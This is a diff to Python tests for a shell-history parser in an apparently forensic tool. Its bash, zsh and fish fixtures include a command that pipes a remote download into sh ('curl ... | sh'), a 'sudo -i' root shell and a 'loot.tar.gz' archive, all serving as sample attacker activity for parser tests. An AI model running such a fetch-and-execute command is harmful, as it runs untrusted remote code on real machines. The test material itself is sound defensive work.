@@ -16,6 +16,11 @@ from trailguard.ingest.parsers.shell_history import ShellHistoryParser, history_
 ParseFn = Callable[..., Parsed]
 SniffFn = Callable[..., str | None]
 
+
+def _text(raw: str | bytes) -> str:
+    """A record's raw text (parsers may hand it over as str or as UTF-8 bytes)."""
+    return raw if isinstance(raw, str) else raw.decode("utf-8")
+
 FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "shell_history"
 
 
@@ -47,7 +52,7 @@ def test_bash_history_with_timestamps_joins_multi_line_commands(parse: ParseFn) 
                                                 datetime(2024, 3, 1, 10, 1),
                                                 datetime(2024, 3, 1, 10, 1, 40)]
     assert [r.data["timestamp"] for r in parsed.records] == [1709287200, 1709287260, 1709287300]
-    assert parsed.records[0].raw == "#1709287200\nsudo -i"
+    assert _text(parsed.records[0].raw) == "#1709287200\nsudo -i"
     assert parsed.records[0].normal["actor_user"] == "root"
 
 
@@ -69,8 +74,8 @@ def test_zsh_extended_history(parse: ParseFn) -> None:
     assert (last.data["timestamp"], last.data["duration"], last.data["shell"]) == (
         1709287230, 12, "zsh")
     assert last.time == datetime(2024, 3, 1, 10, 0, 30)
-    assert last.raw == ": 1709287230:12;curl -s http://203.0.113.9/x | sh"
-    assert parsed.records[2].raw == ": 1709287210:0;echo first line\\\nsecond line"
+    assert _text(last.raw) == ": 1709287230:12;curl -s http://203.0.113.9/x | sh"
+    assert _text(parsed.records[2].raw) == ": 1709287210:0;echo first line\\\nsecond line"
 
 
 def test_fish_history(parse: ParseFn) -> None:
@@ -81,7 +86,7 @@ def test_fish_history(parse: ParseFn) -> None:
                                  "echo one\ntwo"]
     assert parsed.records[1].data["paths"] == ["loot.tar.gz"]
     assert parsed.records[1].data["timestamp"] == 1709287250
-    assert parsed.records[1].raw.count("\n") == 3
+    assert _text(parsed.records[1].raw).count("\n") == 3
 
 
 def test_nul_filled_tail_is_rejected(parse: ParseFn) -> None:
